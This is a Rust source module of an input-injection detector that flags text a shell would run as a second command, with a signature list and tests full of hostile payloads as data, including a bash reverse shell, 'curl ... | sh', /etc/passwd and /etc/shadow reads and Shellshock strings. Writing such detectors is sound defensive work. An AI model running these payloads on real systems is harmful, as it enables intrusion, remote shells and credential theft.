//! Commands of an operating system: would a shell run something that the application did not write?
//!
//! A command is asked for where a shell begins one: after a separator, inside of a substitution, at the start. Its name is
//! read as a shell reads it, with quotes, backslashes and empty variables taken off. Names that are English words too
//! ("cat", "sleep", "id") must come with an argument that no sentence has.

mod names;

use super::marks::{self, Group};
use super::{ByteSet, Hit, Text};
use crate::bytes;
use crate::decision::Class;
use names::{ALONE, FILES, NETWORK, is_english, is_strong};

pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
    let lower = text.lower;
    let hit = |at: usize, why: &'static str| Some(Hit { class: Class::OsCommand, at, why: why.into() });
    if let Some((at, why)) = marks(text) {
        return hit(at, why);
    }
    if text.bytes.intersects(ByteSet::from_list(b";|&\n\r`(%+")) {
        let mut prose = None;
        let mut near = None;
        for at in separators(lower) {
            let inside = lower.get(at..).unwrap_or_default();
            if !may_begin(inside) {
                continue;
            }
            if !text.spend(4) {
                return None;
            }
            let found = command(text, inside);
            if found == Strength::No {
                continue;
            }
            let substitution = at >= 2 && lower.get(at - 2..at) == Some(b"$(");
            let tick = at >= 1 && lower.get(at - 1) == Some(&b'`');
            let mut in_prose = || *prose.get_or_insert_with(|| prose_from(lower)) < at;
            let mark =
                lower.get(..at).unwrap_or_default().iter().rev().find(|b| !matches!(b, b' ' | b'\t' | b'+'));
            match found {
                Strength::Surely if !tick || !in_prose() => {
                    return hit(at, "a shell would run a second command here");
                }
                Strength::Alone if !tick || !in_prose() && !is_mentioned(lower) => {
                    return hit(at, "a shell would run a second command here");
                }
                Strength::Perhaps if substitution || tick && is_all_there_is(lower, at - 1) => {
                    return hit(at, "a shell would run this and put its output here");
                }
                Strength::Perhaps if is_only(lower, at) => {
                    return hit(at, "a shell would run this command, which is all there is");
                }
                Strength::Perhaps if !tick && mark != Some(&b'&') && stands_alone(lower, at) => {
                    return hit(at, "a shell would run a second command here");
                }
                _ => near = near.or(Some(at)),
            }
        }
        if let Some(at) = near {
            text.suspect(Class::OsCommand, at, "the name of a command, where a shell would begin one");
        }
    }
    // At the start only what is a command through and through.
    if command(text, lower.trim_ascii_start()) != Strength::Surely {
        return None;
    }
    if !is_terse(lower) {
        text.suspect(Class::OsCommand, 0, "begins like a command");
        return None;
    }
    hit(0, "the text is a command by itself")
}

/// What only a shell's language has, wherever it stands.
fn marks(text: &Text<'_>) -> Option<(usize, &'static str)> {
    if !text.marks.has(Group::Shell) {
        return None;
    }
    let lower = text.lower;
    for (at, mark) in marks::find(lower, 0, Group::Shell) {
        match mark {
            b"/dev/tcp/" | b"/dev/udp/" => return Some((at, "a connection that the shell itself opens")),
            b"() {" => {
                if at < 4 && memchr::memmem::find(lower.get(at..)?, b"};").is_some() {
                    return Some((at, "a function that a broken shell runs on import"));
                }
            }
            [b'$', ..] => return Some((at, "a blank written as a variable of the shell")),
            [b'-', ..] => {
                let starts = at == 0 || lower.get(at - 1).is_some_and(u8::is_ascii_whitespace);
                if starts {
                    return Some((at, "an option that runs a program"));
                }
            }
            _ => return Some((at, "a shell with a command")),
        }
    }
    None
}

pub(super) const MARKS: &[&[u8]] = &[
    b"/dev/tcp/",
    b"/dev/udp/",
    b"cmd.exe /c",
    b"/bin/sh -",
    b"/bin/bash -",
    b"${ifs}",
    b"$ifs$9",
    b"$ifs/",
    b"${path:0:1}",
    b"() {",
    b"-oproxycommand=",
    b"--upload-pack=",
    b"--checkpoint-action=",
    b"downloadstring(",
    b"iex(new-object",
    b"iex (new-object",
];

/// What the name of a command may begin with, as [`name`] reads it.
fn may_begin(text: &[u8]) -> bool {
    match text {
        [b'w', ..] => true,
        // A name has a letter next, or something that a shell takes off.
        [b'a'..=b'z', next, ..] => {
            next.is_ascii_lowercase()
                || matches!(
                    next,
                    b'/' | b'\'' | b'"' | b'\\' | b'^' | b'@' | b'$' | b'?' | b'*' | b'{' | b'.'
                )
        }
        [b'0'..=b'9' | b'\\' | b'^' | b'@' | b'{' | b'/' | b'.', ..] => true,
        [b'_' | b'-' | b'?' | b'*' | b':' | b'(' | b'!', ..] => true,
        [b'$', next, ..] => next.is_ascii_alphabetic() || matches!(next, b'@' | b'*' | b'\'' | b'0'),
        // A letter in quotes of its own, and more of the word behind it.
        [a @ (b'\'' | b'"'), b'a'..=b'z', b, b'a'..=b'z' | b'\'' | b'"', ..] => a == b,
        _ => false,
    }
}

/// Places where a shell begins a command, other than the start. Blanks are skipped.
fn separators(lower: &[u8]) -> impl Iterator<Item = usize> {
    static TABLE: [bool; 256] = bytes::table(b";|&\n\r`(");
    let marks = bytes::positions(lower, &TABLE, |b| {
        (b == b';') | (b == b'|') | (b == b'&') | (b == b'\n') | (b == b'\r') | (b == b'`') | (b == b'(')
    });
    marks.filter_map(|at| {
        if lower.get(at) == Some(&b'(')
            && !matches!(at.checked_sub(1).and_then(|i| lower.get(i)), Some(b'$' | b'<'))
        {
            return None;
        }
        let rest = lower.get(at + 1..)?;
        static BEGINS: [bool; 256] =
            bytes::table(b"abcdefghijklmnopqrstuvwxyz0123456789\\^@{/._-?*:$(!'\" \t+");
        if rest.first().is_none_or(|b| BEGINS.get(usize::from(*b)) != Some(&true)) {
            return None;
        }
        // A second separator has its own turn.
        let blanks = rest.iter().take(64).take_while(|b| matches!(b, b' ' | b'\t' | b'+')).count();
        (blanks < rest.len()).then_some(at + 1 + blanks)
    })
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Strength {
    No,
    /// An English word that is a command's name as well, with nothing.
    Perhaps,
    /// A command's name with nothing.
    Alone,
    /// A command with an argument that no sentence has.
    Surely,
}

/// Judges what stands where a command may begin, behind what a shell allows before one: `( id`, `! id`, `do id`.
fn command(text: &Text<'_>, from: &[u8]) -> Strength {
    let inner = match from {
        [b'(' | b'!', rest @ ..] => rest,
        [b'd', b'o', b' ', rest @ ..] | [b't', b'h', b'e', b'n', b' ', rest @ ..] => rest,
        [b'$', b'\'', b'a'..=b'z' | b'\\', ..] => return Strength::Surely,
        [b'$', b'0', b' ', b'-', ..] => return Strength::Surely,
        [b'$', rest @ ..] if rest.first().is_some_and(u8::is_ascii_alphabetic) => {
            return variable(text, rest);
        }
        _ => return plain_command(text, from),
    };
    // What stands alone here is at home in prose: "do test it", "(set)".
    match plain_command(text, inner.trim_ascii_start()) {
        Strength::Perhaps => Strength::No,
        strength => strength,
    }
}

/// A command in a variable that the text has set before: `a=id;$a`. Or the shell's own name, with an option.
fn variable(text: &Text<'_>, name: &[u8]) -> Strength {
    let length = name.iter().take(24).take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
    let (name, rest) = name.split_at_checked(length).unwrap_or_default();
    if name == b"shell" && rest.starts_with(b" -") {
        return Strength::Surely;
    }
    let before = text.lower.get(..text.lower.len().min(512)).unwrap_or_default();
    if !text.spend(120) || !matches!(rest.first(), None | Some(b'$' | b' ' | b';' | b'|' | b'&')) {
        return Strength::No;
    }
    let set = memchr::memmem::find_iter(before, name).any(|at| {
        before.get(at + length) == Some(&b'=')
            && (at == 0 || matches!(before.get(at - 1), Some(b';' | b' ' | b'&' | b'|' | b'\n')))
    });
    if set { Strength::Surely } else { Strength::No }
}

/// A command by its name.
fn plain_command(text: &Text<'_>, from: &[u8]) -> Strength {
    let mut letters = [0; 48];
    let plain = from
        .iter()
        .take(48)
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'_' | b'-' | b':'))
        .count();
    let dressed = matches!(
        from.get(plain),
        Some(b'/' | b'\'' | b'"' | b'\\' | b'^' | b'@' | b'$' | b'?' | b'*' | b'{')
    );
    if !dressed {
        match from.get(..plain) {
            Some([a @ b'a'..=b'z', b @ b'a'..=b'z', ..]) if !begins_a_name(*a, *b) => return Strength::No,
            Some([] | [b'a'..=b'v' | b'x'..=b'z']) => return Strength::No,
            // No name has anything but letters first, `w.exe` aside.
            Some([_, b, ..]) if !b.is_ascii_lowercase() && *b != b'.' => return Strength::No,
            _ => {}
        }
    }
    let (length, rest) =
        if dressed { name(from, &mut letters) } else { (0, from.get(plain..).unwrap_or_default()) };
    let read = if dressed { letters.get(..length) } else { from.get(..plain) };
    let (name, path) = base(read.unwrap_or_default());
    // A wildcard stands for whatever the guard would know.
    let wild = path && name.iter().any(|b| matches!(b, b'?' | b'*'));
    let (known, english) = (wild || is_strong(name), is_english(name));
    if !known && !english || !text.spend(60) {
        return Strength::No;
    }
    let glued = rest
        .first()
        .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b'\'' | b':'));
    if glued {
        return Strength::No;
    }
    let argument = rest.trim_ascii_start();
    let ends = argument.first().is_none_or(|b| {
        matches!(b, b';' | b'|' | b'&' | b'`' | b')' | b'#' | b'\n' | b'"' | b'\'' | b'>' | b'<' | 0)
    }) || argument.starts_with(b"//");
    if path && (ends || is_argument(argument, name)) {
        return Strength::Surely;
    }
    if is_argument(argument, name) {
        return Strength::Surely;
    }
    if (known || FILES.contains(&name)) && names_a_place(argument) {
        return Strength::Surely;
    }
    if ends && reads_a_machine(name, argument) {
        return Strength::Surely;
    }
    // `time sleep 5`, `sudo id`: the argument is the command.
    if matches!(
        name,
        b"busybox" | b"time" | b"sudo" | b"nohup" | b"exec" | b"env" | b"command" | b"xargs" | b"eval"
    ) {
        let mut letters = [0; 48];
        let (length, rest) = self::name(argument, &mut letters);
        let inner = letters.get(..length).unwrap_or_default();
        if (is_strong(inner) || is_english(inner)) && is_argument(rest.trim_ascii_start(), inner) {
            return Strength::Surely;
        }
        let alone = || {
            rest.trim_ascii_start()
                .first()
                .is_none_or(|b| matches!(b, b';' | b'|' | b'&' | b'`' | b')' | b'\n'))
        };
        if is_strong(inner) && inner != name && !matches!(name, b"time" | b"command") && alone() {
            return Strength::Surely;
        }
    }
    match (known, ends) {
        (true, true) => Strength::Alone,
        (false, true) if ALONE.contains(&name) => Strength::Perhaps,
        _ => Strength::No,
    }
}

/// `grep root /etc/passwd`, `chmod 777 /tmp/x`, `find . -exec`: a second or third word that is a place of the system or an
/// option, and no word before it that only prose has.
fn names_a_place(argument: &[u8]) -> bool {
    const ROOTS: &[&[u8]] =
        &[b"etc/", b"tmp/", b"var/", b"dev/", b"proc/", b"usr/", b"root/", b"home/", b"bin/", b"opt/"];
    let line = argument.get(..160).unwrap_or(argument);
    let line = line.split(|b| matches!(b, b'\n' | b';' | b'|' | b'&')).next().unwrap_or_default();
    for word in line.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty()).take(3) {
        let word = word.strip_prefix(b"if=").or_else(|| word.strip_prefix(b"of=")).unwrap_or(word);
        if word.strip_prefix(b"/").is_some_and(|path| ROOTS.iter().any(|root| path.starts_with(root)))
            || word == b"-exec"
        {
            return true;
        }
        if PROSE.contains(&word) || word.ends_with(b",") || word.ends_with(b".") && word.len() > 1 {
            return false;
        }
    }
    false
}

/// `env | grep x`: what a process was given, and a tool that looks through it.
fn reads_a_machine(name: &[u8], argument: &[u8]) -> bool {
    let piped = argument.strip_prefix(b"|").map(<[u8]>::trim_ascii_start);
    matches!(name, b"env" | b"set" | b"printenv" | b"history")
        && piped.is_some_and(|p| {
            [&b"grep "[..], b"sort", b"head", b"tail", b"cut ", b"tee ", b"base64", b"nc "]
                .iter()
                .any(|tool| p.starts_with(tool))
        })
}

/// The name as the shell reads it: its length, and what follows.
fn name<'a>(text: &'a [u8], name: &mut [u8; 48]) -> (usize, &'a [u8]) {
    let mut length = 0;
    let mut rest = match text {
        // `'w'h'o'`: whoever quotes single letters hides a name.
        [a @ (b'\'' | b'"'), b'a'..=b'z', b, ..] if a == b => text.get(1..).unwrap_or_default(),
        _ => text,
    };
    // Quotes and variables that stand for nothing are no part of a name, and nobody needs many of them.
    for _ in 0..256 {
        match rest {
            [b'\'' | b'"' | b'\\' | b'^' | b'@', more @ ..]
                if length > 0 || matches!(rest.first(), Some(b'\\' | b'^' | b'@')) =>
            {
                rest = more;
            }
            [b'$', b'@' | b'*', more @ ..] => rest = more,
            [b'{', more @ ..] if length == 0 => rest = more,
            [b, more @ ..]
                if b.is_ascii_alphanumeric()
                    || matches!(b, b'/' | b'.' | b'_' | b'-' | b'?' | b'*' | b':') =>
            {
                let Some(slot) = name.get_mut(length) else { break };
                *slot = *b;
                length += 1;
                rest = more;
            }
            _ => break,
        }
    }
    (length, rest)
}

/// The first two letters of every name below; a test holds them together.
const STARTS: &[u8] =
    b"ad ar at aw ba bi bu ca cd ce ch cm co cp cr cs cu da dd de df di do du ec en ev ex fa fi fo ft \
    ga gc ge gr gz ha he hi ho id if ip jo ki ks ku le ln lo ls lu ma mk mo ms mv my nc ne nl no np \
    ns od op pa pe ph pi po pr ps pw py re rm ro ru sc se sh sl so ss st su sy ta tc te tf ti to tr \
    ty un us ve wg wh wm ws xa xx zi zs ";

#[expect(clippy::indexing_slicing, reason = "evaluated by the compiler")]
const fn starts(list: &[u8]) -> [u32; 26] {
    let mut table = [0; 26];
    let mut list = list;
    while let [a, b, b' ', rest @ ..] = list {
        table[(*a - b'a') as usize] |= 1 << (*b - b'a');
        list = rest;
    }
    table
}

/// Whether some name begins with these two letters, which tells most words from names at once.
fn begins_a_name(a: u8, b: u8) -> bool {
    static TABLE: [u32; 26] = starts(STARTS);
    TABLE.get(usize::from(a - b'a')).is_some_and(|seconds| seconds & 1 << (b - b'a') != 0)
}

/// The last part of a path, without `.exe`; true if it was a path to a folder of programs.
fn base(name: &[u8]) -> (&[u8], bool) {
    let (folder, last) = match memchr::memrchr(b'/', name) {
        Some(at) => (name.get(..at).unwrap_or_default(), name.get(at + 1..).unwrap_or_default()),
        None => (&b""[..], name),
    };
    let last = last.strip_suffix(b".exe").unwrap_or(last);
    let programs = folder.ends_with(b"bin") || folder.ends_with(b"/bin") || folder.contains(&b'?');
    (last, programs)
}

/// True for an argument that no sentence has.
fn is_argument(text: &[u8], name: &[u8]) -> bool {
    let word = text
        .iter()
        .take(128)
        .take_while(|b| !matches!(b, b' ' | b';' | b'|' | b'&' | b'`' | b')' | b'\n'))
        .count();
    let (word, rest) = text.split_at(word);
    match word {
        [b'-', next, ..] => next.is_ascii_alphanumeric() || *next == b'-',
        [b'/', next, ..] => next.is_ascii_alphanumeric() || matches!(next, b'?' | b'*' | b'\'' | b'"'),
        b"s3" | b"ec2" | b"iam" | b"sts" | b"lambda" | b"secretsmanager" | b"ssm" if name == b"aws" => true,
        b"addr" | b"a" | b"route" | b"link" | b"neigh" if name == b"ip" => {
            rest.trim_ascii_start().first().is_none_or(|b| !b.is_ascii_alphabetic())
        }
        b"process" | b"os" | b"useraccount" | b"service" if name == b"wmic" => true,
        [b'@', ..] if name == b"dig" => true,
        _ if matches!(name, b"ssh" | b"scp") && word.contains(&b'@') => true,
        [b'~' | b'$' | b'*', ..] => word.len() > 1,
        [b'.', b'/' | b'.', ..] => word.len() > 2,
        [b'>' | b'<', ..] => true,
        [drive, b':', ..] if drive.is_ascii_alphabetic() => {
            word.len() <= 3 || matches!(word.get(2), Some(b'\\' | b'/'))
        }
        // `find / -name x`
        b"/" => matches!(name, b"find" | b"ls" | b"du" | b"cd") && rest.trim_ascii_start().starts_with(b"-"),
        b"aux" | b"auxw" | b"axu" | b"ax" => name == b"ps",
        b"user" | b"users" | b"localgroup" | b"view" | b"share" => {
            name == b"net" && rest.trim_ascii_start().first().is_none_or(|b| !b.is_ascii_alphabetic())
        }
        _ if memchr::memmem::find(word, b"://").is_some() => true,
        _ if name == b"sleep" || name == b"timeout" => {
            word.iter().all(u8::is_ascii_digit)
                && !word.is_empty()
                && rest.trim_ascii_start().first().is_none_or(|b| !b.is_ascii_alphabetic())
        }
        _ if NETWORK.contains(&name) => is_host(word),
        _ if FILES.contains(&name) => word.contains(&b'/') && !word.ends_with(b"/") || is_file(word),
        _ => false,
    }
}

fn is_host(word: &[u8]) -> bool {
    word.len() > 3
        && word.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':' | b'/'))
        && word.get(1..word.len() - 1).is_some_and(|w| w.contains(&b'.'))
}

fn is_file(word: &[u8]) -> bool {
    let dot = memchr::memrchr(b'.', word);
    dot.is_some_and(|at| {
        at > 0
            && (2..=4).contains(&(word.len() - at - 1))
            && word.iter().skip(at + 1).all(u8::is_ascii_alphanumeric)
    })
}

/// Nothing but a separator stands before the command, and nothing behind its name: `& dir`.
fn is_only(lower: &[u8], at: usize) -> bool {
    at < 8
        && lower.len() < at + 16
        && lower.get(..at).is_some_and(|b| b.iter().all(|b| matches!(b, b'&' | b'|' | b';' | b' ')))
        && lower.get(at..).is_some_and(|r| r.trim_ascii_end().iter().all(u8::is_ascii_alphabetic))
}

/// The separator before `at` is no punctuation of a sentence: nothing but short words around, few of them.
fn stands_alone(lower: &[u8], at: usize) -> bool {
    if lower.len() > 256 {
        return false;
    }
    let rest = lower.get(at..).unwrap_or_default();
    let words = |text: &[u8]| {
        text.split(u8::is_ascii_whitespace)
            .filter(|w| w.iter().filter(|b| b.is_ascii_alphabetic()).count() > 1)
            .count()
    };
    let line = rest.split(|b| *b == b'\n').next().unwrap_or_default();
    // Names of columns are joined by semicolons as well: `id;name;price`.
    let column = rest
        .iter()
        .skip_while(|b| b.is_ascii_alphanumeric() || **b == b'/')
        .nth(1)
        .is_some_and(u8::is_ascii_alphanumeric);
    words(line) <= 1 && words(lower.get(..at).unwrap_or_default()) <= 2 && !column
}

/// Where a text has had two words: a backtick further on quotes a word of a sentence.
fn prose_from(lower: &[u8]) -> usize {
    let mut at = 0;
    let words = lower.split(u8::is_ascii_whitespace).map(|word| {
        at += word.len() + 1;
        (at - 1, word)
    });
    words
        .filter(|(_, w)| w.len() > 1 && w.iter().all(u8::is_ascii_alphabetic))
        .nth(1)
        .map_or(usize::MAX, |(end, _)| end)
}

/// A name in backticks within a text of several words, as people write about columns and functions.
fn is_mentioned(lower: &[u8]) -> bool {
    let word = |w: &&[u8]| w.len() > 1 && w.iter().all(u8::is_ascii_alphabetic);
    lower.split(u8::is_ascii_whitespace).filter(word).nth(2).is_some()
}

/// The substitution is the whole text, quotes aside.
fn is_all_there_is(lower: &[u8], tick: usize) -> bool {
    let quotes = |b: &u8| matches!(b, b'\'' | b'"' | b' ' | b';' | b'|' | b'&' | b'=');
    if tick > 16 {
        return false;
    }
    let before = lower.get(..tick).unwrap_or_default();
    let after = lower.get(tick + 1..).unwrap_or_default();
    let end = memchr::memchr(b'`', after).and_then(|end| after.get(end + 1..)).unwrap_or_default();
    !before.contains(&b' ') && end.iter().all(quotes)
}

/// No sentence: at most a handful of words, and not one that only prose has.
fn is_terse(lower: &[u8]) -> bool {
    if lower.len() > 512 {
        return false;
    }
    let mut words = lower.split(u8::is_ascii_whitespace).filter(|w| !w.is_empty());
    !words.any(|w| PROSE.contains(&w))
}

/// Words that only prose has.
const PROSE: &[&[u8]] = &[
    b"the", b"a", b"an", b"is", b"my", b"your", b"and", b"or", b"me", b"up", b"with", b"in", b"to", b"for",
    b"of", b"gives", b"says", b"worked", b"shows", b"prints",
];

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inject::{sample, sample_for};

    /// Too little by itself; enough where a shell takes it.
    #[test]
    fn commands_that_prose_has_as_well() {
        for text in ["Q&A; history; time", "use `sort` before `uniq`", "curl -s example.com is what I ran"] {
            assert!(!sample(detect, text) && sample_for(detect, text, Class::OsCommand), "{text}");
        }
        for text in
            ["me & you || just you?", "R&D", "Base price is $(100)", "open; 'a' or 'b'; \"c\" is fine"]
        {
            assert!(!sample_for(detect, text, Class::OsCommand), "{text}");
        }
    }

    /// Every name of two letters that a text could begin with, so that none is missing in the list of beginnings.
    #[test]
    fn beginnings_of_names() {
        let source = include_str!("command/names.rs");
        let names = source.split("fn is_strong").nth(1).unwrap();
        let mut count = 0;
        for name in names.split("b\"").skip(1).map(|rest| rest.split('"').next().unwrap()) {
            let bytes = name.as_bytes();
            if (is_strong(bytes) || is_english(bytes))
                && bytes.len() > 1
                && bytes.iter().take(2).all(u8::is_ascii_lowercase)
            {
                assert!(begins_a_name(bytes[0], bytes[1]), "{name}");
                count += 1;
            }
        }
        assert!(count > 150, "{count}");
    }

    #[test]
    fn what_a_shell_would_run() {
        for text in [
            "127.0.0.1 && ls /etc",
            "; cat /et'c/pa'ss'wd",
            ";wget http://some_host/x",
            "`id`",
            "a|/usr/bin/id",
            "$(whoami)",
            ";id|",
            "x; ping -c 5 10.0.0.1",
            "& dir c:\\",
            "| sleep 5 ;",
            "a\nwhoami",
            ";c\\at /etc/passwd",
            "cat${IFS}/etc/passwd",
            "x;/bin/ca? /etc/passwd",
            "() { :;}; echo x",
            "bash -i >& /dev/tcp/10.0.0.1/99 0>&1",
            "curl http://x.example/s.sh | sh",
            "'`/usr/bin/id`'",
            "name.jpg;curl x.example",
            "& dir",
            "&& net user",
            "x; find / -name id_rsa",
            "; ps aux",
            ";time sleep 5",
            "; grep root /etc/passwd",
            "; find . -exec id \\;",
            "; chmod 777 /tmp/x",
            "; while true; do id; done",
            "x;(id)",
            "; ! id",
            "; env id",
            "; busybox id",
            "a=id;$a",
            "; W=who;A=ami;$W$A",
            "; $SHELL -c id",
            "a;$0 -c id",
            "; $'\\x69\\x64'",
            "; 'w'h'o'a'm'i",
            "; env | grep KEY",
            "; aws s3 ls",
            "| wmic process list",
            "; ip addr",
            "; id //",
            "; dd if=/dev/zero",
            "-oProxyCommand=id",
            "--upload-pack=id",
            "<(id)",
            "; diff /etc/passwd /dev/null",
            "x;sudo cat /etc/shadow",
        ] {
            assert!(sample(detect, text), "{text}");
        }
    }

    #[test]
    fn sentences_tables_and_code() {
        for text in [
            "curl up with a book; ping me later",
            "The cat /is/ the show; cat lovers welcome",
            "sleep 8 hours; drink water",
            "id;name;price\n1;nail;3",
            "use `sort` before `uniq`",
            "me & you || just you?",
            "Base price is $(100)",
            "dinner (7pm); bring wine && cheese",
            "R&D",
            "bash away in the gym",
            "ls 300 lexus",
            "if p<0.05 then reject; else don't",
            "| a | b |\n|---|---|",
            "Tom & Ann; find us at the fair",
            "Q&A: date; time; place",
            "Q&A; history; time",
            "cats & dogs; env & health",
            "feat(api): add `id` to response; fix #12",
            "We find / discover the best; ls is short for list",
            "time flies; time heals; sudo make me a sandwich",
            "net user growth was 5%; net view is better",
            "cut & paste",
            "chores; do test it (set), then find out; then time it",
            "costs; $a or $b; price=$5",
            "Q&A; ip address; id card; do ls have a plural",
            "env; set; (env) | a",
            "find us on /r/berlin; find more at /usr, they said",
            "open; 'a' or 'b'; \"c\" is fine",
            "red; (blue); !important; then home",
            "we sell; aws certified staff; ip rights",
        ] {
            assert!(!sample(detect, text), "{text}");
        }
    }
}
